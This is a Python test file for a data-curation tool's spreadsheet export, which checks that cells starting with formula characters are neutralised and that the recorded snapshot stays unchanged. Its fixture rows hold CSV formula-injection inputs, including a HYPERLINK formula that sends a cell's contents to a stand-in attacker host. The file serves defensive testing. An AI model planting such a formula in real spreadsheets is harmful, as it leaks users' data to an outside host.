"""Spreadsheet copies (issues 5 and 10): the curated snapshot stays a byte-exact record; people get a copy
whose cells cannot run as formulas, from the CLI (``workbench data export``) and the curation app.
Also ``workbench datasheet DIR``, the top-level alias of ``workbench data datasheet DIR``. On SQLite and
PostgreSQL."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from workbench.cli import run_cli
from workbench.consent import ledger as L
from workbench.curation import importer, snapshot
from workbench.spreadsheet import FORMULA_START, neutralise, neutralise_frame, neutralise_text_table, write_csv
from workbench.ui.curation.view import CurationView

from .consent_support import make_scope, new_project
from .gates import publish

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
ROWS = [  # every row is c-ok's, who consented to train: all are kept
    {"contributor_id": "c-ok", "hood": "A", "text": HYPERLINK, "label": "urgent", "score": "-0.5", "note": "-2"},
    {"contributor_id": "c-ok", "hood": "=1+2", "text": "+1+1", "label": "routine", "score": "1", "note": "fine"},
    {"contributor_id": "c-ok", "hood": "A", "text": "@SUM(A1:A9)", "label": "urgent", "score": "2.5", "note": "\tTAB"},
    {"contributor_id": "c-ok", "hood": "A", "text": "\rcarriage", "label": "routine", "score": "3", "note": "x\r\ny"},
    {"contributor_id": "c-ok", "hood": "A", "text": "words, a comma and \"quotes\"", "label": "urgent", "score": "",
     "note": "-2+3"},
]
# (column, row) -> what the spreadsheet copy must hold
EXPECTED = {("text", 0): "'" + HYPERLINK, ("text", 1): "'+1+1", ("text", 2): "'@SUM(A1:A9)",
            ("text", 3): "'\rcarriage", ("note", 0): "'-2", ("note", 2): "'\tTAB", ("note", 4): "'-2+3",
            ("hood", 1): "'=1+2", ("note", 3): "x\r\ny", ("text", 4): 'words, a comma and "quotes"',
            ("score", 0): "-0.5", ("score", 4): "", ("note", 1): "fine"}


def hostile_csv(rows=ROWS) -> bytes:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8")


@pytest.fixture
def project(tmp_path, backend_url):
    p = new_project(tmp_path, store_url=backend_url)
    publish(p.store, make_scope())
    L.give(p.store, "c-ok", {"train": True, "evaluate": True}, method="paper", at="2026-01-10", witness="f-ana",
           paper_ref="form 1")
    preview = importer.inspect(hostile_csv(), "hostile.csv")
    importer.add(p, preview, importer.ColumnMapping("contributor_id", "label", ("hood",), "text"))
    yield p
    p.close()


def read_copy(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "the spreadsheet copy starts with a UTF-8 byte-order mark for Excel"
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def risky(cell: str) -> bool:
    """What a spreadsheet would run: starts with = + - @ tab or CR and is not a plain number."""
    return cell.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell)


def recorded_table(project, snap) -> list[list[str]]:
    return snapshot.read_recorded(project, snap).values.tolist()


def assert_spreadsheet_copy(project, snap, path: Path) -> None:
    rows = read_copy(path)
    head = rows[0]
    assert head == ["row", "contributor_id", "hood", "text", "label", "score", "note"]
    assert len(rows) == snap.rows + 1 == len(ROWS) + 1
    for (col, i), want in EXPECTED.items():
        assert rows[i + 1][head.index(col)] == want, (col, i, rows[i + 1])
    assert not [c for r in rows for c in r if risky(c)]
    # nothing but the quotes differs from the recorded snapshot
    recorded = recorded_table(project, snap)
    unquoted = [[c[1:] if c.startswith("'") and c[1:].startswith(FORMULA_START) else c for c in r] for r in rows]
    assert unquoted == recorded


def canonical_state(project, snap) -> tuple[bytes, str]:
    data = (Path(project.artifacts_dir) / snap.file).read_bytes()
    return data, hashlib.sha256(data).hexdigest()


def test_cli_export_neutralises_and_leaves_the_snapshot_as_recorded(project, tmp_path):
    code, out, err = run_cli(["data", "snapshot", str(project.root), "--use", "train"])
    assert (code, err) == (0, ""), err
    snap = snapshot.latest(project.store, "train")
    before, digest = canonical_state(project, snap)
    assert digest == snap.content_sha256
    assert b"\n3,c-ok,A,\rcarriage," in before  # the record keeps the text as it was, no quote added
    assert snapshot.compute(project, "train", snap.at)[3] == snap.content_sha256
    events = project.store.count()

    target = tmp_path / "train.csv"
    code, out, err = run_cli(["data", "export", str(project.root), "--use", "train", "--out", str(target)])
    assert (code, err) == (0, ""), err
    assert out.startswith("Wrote a spreadsheet copy of the train snapshot ") and str(target) in out
    assert_spreadsheet_copy(project, snap, target)
    assert canonical_state(project, snap) == (before, snap.content_sha256)
    assert snapshot.compute(project, "train", snap.at)[3] == snap.content_sha256
    assert project.store.count() == events, "an export logs nothing and changes nothing"
    assert project.store.verify().ok
    assert not list(tmp_path.glob(".*.partial"))

    # without --out: artifacts/spreadsheets/<use>-<hash12>.csv, replaced freely (same snapshot, same copy)
    for _ in range(2):
        code, out, err = run_cli(["data", "export", str(project.root)])
        assert (code, err) == (0, ""), err
    default = Path(project.artifacts_dir) / "spreadsheets" / f"train-{snap.content_sha256[:12]}.csv"
    assert default.read_bytes() == target.read_bytes()


def test_cli_export_refusals_are_one_line_and_write_nothing(project, tmp_path):
    def refused(args, words):
        code, out, err = run_cli(["data", "export", str(project.root), *args])
        assert code == 2 and out == "", (code, out, err)
        assert len(err.splitlines()) == 1 and err.startswith("error: ") and "Traceback" not in err
        assert words in err, err

    refused(["--use", "train"], "There is no snapshot for train yet")
    snap = snapshot.take(project, "train")
    before = canonical_state(project, snap)
    target = tmp_path / "copy.csv"
    target.write_text("keep me")
    refused(["--out", str(target)], "already exists. Add --force")
    assert target.read_text() == "keep me"
    canonical = Path(project.artifacts_dir) / snap.file
    refused(["--out", str(canonical), "--force"], "is a recorded snapshot and stays as it is")
    refused(["--out", str(tmp_path / "copy.xlsx")], "does not end in .csv")
    refused(["--out", str(tmp_path / "no-such-folder" / "x.csv")], "There is no folder")
    (tmp_path / "folder.csv").mkdir()
    refused(["--out", str(tmp_path / "folder.csv")], "is a folder")
    refused(["--hash", "0000000000"], "There is no train snapshot with hash 0000000000")
    assert canonical_state(project, snap) == before
    assert not list(tmp_path.rglob("*.partial")) and not (Path(project.artifacts_dir) / "spreadsheets").exists()

    code, _out, err = run_cli(["data", "export", str(project.root), "--out", str(target), "--force"])
    assert (code, err) == (0, "")
    assert_spreadsheet_copy(project, snap, target)

    canonical.write_bytes(before[0].replace(b"urgent", b"URGENT", 1))  # someone edits the record by hand
    refused(["--out", str(tmp_path / "again.csv")], "does not match the hash logged when it was taken")
    canonical.unlink()
    refused(["--out", str(tmp_path / "again.csv")], "is missing")
    assert not (tmp_path / "again.csv").exists()


def test_cli_export_by_hash_prefix_copies_an_older_snapshot(project, tmp_path):
    from workbench.curation import actions

    old = snapshot.take(project, "train")
    ds = importer.current(project.store)
    actions.exclude_rows(project.store, ds, ["0"], reason="The hyperlink row is spam.")
    new = snapshot.take(project, "train")
    assert new.content_sha256 != old.content_sha256 and new.rows == old.rows - 1
    code, _out, err = run_cli(["data", "export", str(project.root), "--hash", old.content_sha256[:10].upper(),
                               "--out", str(tmp_path / "old.csv")])
    assert (code, err) == (0, ""), err
    assert_spreadsheet_copy(project, old, tmp_path / "old.csv")
    code, _out, err = run_cli(["data", "export", str(project.root), "--out", str(tmp_path / "new.csv")])
    assert len(read_copy(tmp_path / "new.csv")) == new.rows + 1


def test_the_curation_app_saves_a_spreadsheet_copy(project):
    view = CurationView(project, "facilitator", "en", charts=False)
    view.use.value = "train"
    view.sheet_button.click()  # no snapshot yet: the catalog sentence, nothing written
    assert "wb-error" in view.status.value and "There is no snapshot for train yet" in view.status.value
    assert view.sheet_info.value == "" and not (Path(project.artifacts_dir) / "spreadsheets").exists()

    view.snapshot_button.click()
    snap = snapshot.latest(project.store, "train")
    before = canonical_state(project, snap)
    events = project.store.count()
    view.sheet_button.click()
    assert "wb-ok" in view.status.value, view.status.value
    path = Path(project.artifacts_dir) / "spreadsheets" / f"train-{snap.content_sha256[:12]}.csv"
    assert str(path) in view.status.value
    assert_spreadsheet_copy(project, snap, path)
    assert canonical_state(project, snap) == before and project.store.count() == events
    link = re.search(r'<a download="([^"]+)" href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)">',
                     view.sheet_info.value)
    assert link and link.group(1) == path.name
    assert base64.b64decode(link.group(2)) == path.read_bytes()
    assert "Download " + path.name in view.sheet_info.value
    assert "<script" not in view.sheet_info.value

    view.set_language("pt-BR")
    assert view.sheet_button.description == "Salvar uma cópia do recorte para planilha"
    view.sheet_button.click()
    assert "Cópia para planilha salva em" in view.status.value and "Baixar " in view.sheet_info.value


def test_the_app_names_a_changed_record_instead_of_copying_it(project):
    snap = snapshot.take(project, "train")
    (Path(project.artifacts_dir) / snap.file).write_bytes(b"row,text\n0,=1+1\n")
    view = CurationView(project, "facilitator", "es", charts=False)
    view.sheet_button.click()
    assert "wb-error" in view.status.value and "no coincide con el hash registrado" in view.status.value
    assert not (Path(project.artifacts_dir) / "spreadsheets" / f"train-{snap.content_sha256[:12]}.csv").exists()


# -- the one rule ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell,expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (" =1", " =1"), (-2, -2), (None, None),
])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_frames_and_text_tables_follow_the_same_rule():
    frame = pd.DataFrame({"=name": ["=1", "-2", None, "ok"], "n": [-1.5, 2, 3, None],
                          "mixed": ["@x", 5, None, "+y"]})
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=name", "n", "mixed"]
    assert out["'=name"].tolist()[:2] == ["'=1", "'-2"] and out["'=name"].isna().tolist()[2]
    assert out["n"].tolist()[0] == -1.5 and out["mixed"].tolist()[:2] == ["'@x", 5]
    assert out["mixed"].tolist()[3] == "'+y"
    text = pd.DataFrame([["-h", "n", "t"], ["x", "-2", "-2"], ["y", "1e-3", "words"], ["z", "", "+1"]])
    got = neutralise_text_table(text).values.tolist()
    assert got == [["'-h", "n", "t"], ["x", "-2", "'-2"], ["y", "1e-3", "words"], ["z", "", "'+1"]]


def test_write_csv_quotes_line_breaks_and_refuses_to_replace(tmp_path):
    path = write_csv(pd.DataFrame({"a": ["x\ry", "z"]}), tmp_path / "a.csv")
    assert path.read_bytes() == b'a\r\n"x\ry"\r\nz\r\n'
    with pytest.raises(Exception, match="already exists"):
        write_csv(pd.DataFrame({"a": [1]}), path)
    assert write_csv(pd.DataFrame({"a": [1]}), path, force=True).read_bytes() == b"a\r\n1\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv"]
    text = pd.DataFrame([["row", "'=x"], ["0", "a,\"b\"\r\nc"], ["1", ""]], dtype=str)
    fast = write_csv(text, tmp_path / "fast.csv", header=False, all_text=True).read_bytes()
    assert fast == write_csv(text, tmp_path / "slow.csv", header=False).read_bytes()
    assert fast == b'row,\'=x\r\n0,"a,""b""\r\nc"\r\n1,\r\n'


# -- workbench datasheet DIR -------------------------------------------------------------------------------
def test_workbench_datasheet_is_the_same_as_data_datasheet(project, tmp_path):
    snapshot.take(project, "train")
    code, out, err = run_cli(["datasheet", str(project.root), "--lang", "en"])
    assert (code, err) == (0, ""), err
    md, html = Path(project.artifacts_dir) / "datasheet.md", Path(project.artifacts_dir) / "datasheet.html"
    assert out == f"Wrote {md}, {html}\n"
    first = md.read_text(encoding="utf-8")
    assert snapshot.latest(project.store, "train").content_sha256[:16] in first
    code, out2, err = run_cli(["data", "datasheet", str(project.root), "--lang", "en"])
    assert (code, out2, err) == (0, out, "")
    assert md.read_text(encoding="utf-8") == first
    code, out, _ = run_cli(["datasheet", "--help"])
    assert code == 0 and "same as 'workbench data datasheet DIR'" in out and "--lang" in out
    code, out, _ = run_cli(["--help"])
    assert "datasheet" in out
    code, out, err = run_cli(["datasheet", str(tmp_path / "nowhere")])
    assert code == 2 and len(err.splitlines()) == 1 and err.startswith("error: ") and "Traceback" not in err
    code, out, err = run_cli(["datasheet"])
    assert code == 2 and len(err.splitlines()) == 1 and "DIR" in err
